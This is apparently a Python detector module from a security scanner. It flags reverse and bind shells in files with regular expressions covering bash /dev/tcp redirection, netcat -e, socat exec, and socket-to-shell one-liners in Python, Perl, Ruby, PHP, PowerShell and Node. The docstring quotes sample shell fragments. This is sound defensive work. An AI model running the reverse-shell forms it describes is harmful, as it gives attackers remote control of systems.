"""Reverse and bind shells in any text: a shell whose input and output are a network
connection (``bash -i >& /dev/tcp/h/p 0>&1``, ``nc -e``, ``socat exec:``, ``mkfifo`` loops, and
the socket + dup2 one-liners of Python, Perl, Ruby, PHP, PowerShell and Node).

Regular expressions for the one-line forms, which is how these travel (a SKILL.md code block,
a script, a ``-c`` argument), plus two file-level pairings: a ``/dev/tcp`` descriptor opened on
one line and given to a shell on another, and a Node socket piped into a spawned shell. Python
written out over several lines is read by ``python_network`` with the ``ast``.

Not a shell: a port probe (``bash -c '</dev/tcp/127.0.0.1/5432'``, ``nc -z host 80``) or a raw
HTTP request over ``exec 3<>/dev/tcp/...`` whose answer is only read.
"""

from __future__ import annotations

import re

from xclaw.scan.context import FileContext
from xclaw.scan.mentions import fenced_lines, is_prose_mention
from xclaw.scan.report import Severity

_SH = r"(?<![\w.-])(?:/(?:usr/)?bin/)?(?:ba|z|k|da|tc|c|fi|a)?sh(?![\w-])"
_FLAGS = r"(?:\s+-\w+)*"
_AT_COMMAND = r"(?:^|[;&|]|\bdo\b|\bthen\b)\s*"  # where a word is run as the command
_NET_CLIENT = r"(?<![\w.-])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|openssl\s+s_client)"

# (substrings one of which the lower-cased line must hold, pattern, why)
ONE_LINE: list[tuple[tuple[str, ...], re.Pattern[str], str]] = [
    (
        ("/dev/tcp", "/dev/udp"),
        re.compile(rf"{_SH}{_FLAGS}\s+(?:\d*[<>]&?|&>|\d*<>)\s*/dev/(?:tcp|udp)/"),
        "a shell's input or output is redirected to /dev/tcp",
    ),
    (
        ("/dev/tcp", "/dev/udp"),
        re.compile(rf"/dev/(?:tcp|udp)/[^\n]*{_SH}{_FLAGS}\s+(?:-i\b|\d*[<>]&\s*\d)"),
        "a shell runs on a /dev/tcp connection",
    ),
    (
        ("/dev/tcp", "/dev/udp"),
        re.compile(rf"{_SH}{_FLAGS}\s+\d*[<>]&\s*\d+[^\n]*/dev/(?:tcp|udp)/"),
        "a shell runs on a /dev/tcp connection",
    ),
    (
        ("/dev/tcp", "/dev/udp"),
        re.compile(r"/dev/(?:tcp|udp)/[^\n]*\bwhile\s+read\b[^\n]*\bdo\s+\$\w+"),
        "lines read from /dev/tcp are run as commands",
    ),
    (
        ("nc ", "nc.", "ncat", "netcat"),
        re.compile(
            r"(?<![\w.-])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|busybox\s+nc)(?![\w-])"
            r"[^\n;|]*\s(?:-e|-c|--exec|--sh-exec|--lua-exec)(?:\s|=|$)"
        ),
        "netcat runs a program for the connection",
    ),
    (
        ("nc ", "ncat", "netcat", "telnet", "s_client"),
        re.compile(rf"\|\s*{_SH}{_FLAGS}[^\n|]*\|\s*{_NET_CLIENT}(?![\w-])"),
        "a shell's output is piped to a network client",
    ),
    (
        ("nc ", "ncat", "netcat", "telnet", "s_client"),
        re.compile(rf"{_NET_CLIENT}(?![\w-])[^\n|;]*\|\s*{_SH}"),
        "a network client's output is piped into a shell",
    ),
    (
        ("socat",),
        re.compile(r"\bsocat\b[^\n]*\b(?i:exec|system):"),
        "socat runs a program for the connection",
    ),
    (("/inet/",), re.compile(r"/inet/(?:tcp|udp)/[^\n]*\|&"), "gawk runs a shell over /inet/tcp"),
    (
        ("dup2", "pty.spawn", "fileno"),
        re.compile(
            # lookaheads, not nested lazy runs: linear in a long line of repeated words
            r"\bsocket\b(?:(?=.{0,400}?\bdup2\b)(?=.{0,800}?(?:pty\.spawn|/bin/|\bsh\b|bash"
            r"|subprocess|\bcall\(|Popen))|(?=.{0,400}?(?:\bpty\.spawn\b"
            r"|std(?:in|out)\s*=\s*\w+\.fileno\(\))))"
        ),
        "a Python socket is wired to a shell",
    ),
    (
        ("stdin", "stdout", "stderr", "fdopen"),
        re.compile(
            r"\b(?:socket|IO::Socket\S*)\b.{0,400}?(?:open\s*\(\s*STD(?:IN|OUT|ERR)\s*,\s*"
            r"[\"']?[+<>]*&|\bfdopen\b)"
        ),
        "a Perl socket becomes the program's standard input and output",
    ),
    (
        ("tcpsocket",),
        re.compile(r"\bTCPSocket\b.{0,400}?(?:\bexec\b|\bspawn\b|\bsystem\b|IO\.popen|/bin/\w*sh)"),
        "a Ruby socket is given to a shell",
    ),
    (
        ("fsockopen",),
        re.compile(
            r"\bfsockopen\b.{0,400}?\b(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\("
        ),
        "a PHP socket is given to a shell",
    ),
    (
        ("tcpclient",),
        re.compile(r"(?i:Net\.Sockets\.TCPClient.{0,800}?(?:\biex\b|Invoke-Expression))"),
        "PowerShell runs what a TCP connection sends",
    ),
]
_LINE_HINTS = re.compile("|".join(sorted({re.escape(h) for hs, _, _ in ONE_LINE for h in hs})))
_DEV_TCP_FD = re.compile(r"\bexec\s+(\d+)<>\s*/dev/(?:tcp|udp)/")
_NODE_SOCKET = re.compile(r"\bnet\.(?:Socket|connect|createConnection)\b")
_NODE_SHELL = re.compile(r"\bspawn\s*\(\s*['\"`](?:/bin/)?(?:ba|z|da)?sh['\"`]")
_NODE_PIPE = re.compile(r"\.pipe\s*\(\s*\w+\.stdin\s*\)")
_GATE = re.compile(r"/dev/|\bnc\b|ncat|netcat|telnet|s_client|socat|/inet/|socket|fsockopen", re.I)


def scan_reverse_shells(ctx: FileContext) -> None:
    if not _GATE.search(ctx.text):
        return
    fenced = fenced_lines(ctx)
    fds: set[str] = set()  # descriptors this file opened on /dev/tcp
    for n, line in enumerate(ctx.lines, start=1):
        if len(line) > 20_000:
            line = line[:20_000]
        if "/dev/" in line:
            fds.update(_DEV_TCP_FD.findall(line))
        found = _one_line(line) or (_shell_on_fd(line, fds) if fds else None)
        if found:
            start, why = found
            mention = is_prose_mention(ctx, fenced, n, line, start)
            ctx.emit(
                "shell.reverse_shell",
                n,
                start + 1,
                severity=Severity.MEDIUM if mention else None,
                message=f"A reverse shell: {why}"
                + (" (named in prose, not asked for)." if mention else "."),
            )
    if ctx.kind == "js":
        _node_shell(ctx)


def _one_line(line: str) -> tuple[int, str] | None:
    low = line.lower()
    if not _LINE_HINTS.search(low):
        return None  # most lines: one pass of a literal alternation instead of every pattern
    for hints, pattern, why in ONE_LINE:
        m = pattern.search(line) if any(h in low for h in hints) else None
        if m:
            return m.start(), why
    return None


def _shell_on_fd(line: str, fds: set[str]) -> tuple[int, str] | None:
    """``sh <&5 >&5`` or ``$line 2>&5`` after ``exec 5<>/dev/tcp/...`` on an earlier line."""
    for fd in fds:
        m = re.search(rf"(?:{_SH}|{_AT_COMMAND}\$\w+){_FLAGS}[^\n;|]*[<>]&\s*{fd}\b", line)
        if m and not _DEV_TCP_FD.search(line[: m.start()] + " "):
            return m.start(), f"a shell runs on descriptor {fd}, opened on /dev/tcp"
    return None


def _node_shell(ctx: FileContext) -> None:
    if not (_NODE_SOCKET.search(ctx.text) and _NODE_SHELL.search(ctx.text)):
        return
    for n, line in enumerate(ctx.lines, start=1):
        m = _NODE_PIPE.search(line)
        if m:
            ctx.emit(
                "shell.reverse_shell",
                n,
                m.start() + 1,
                message="A reverse shell: a Node socket is piped into a spawned shell.",
            )
            return
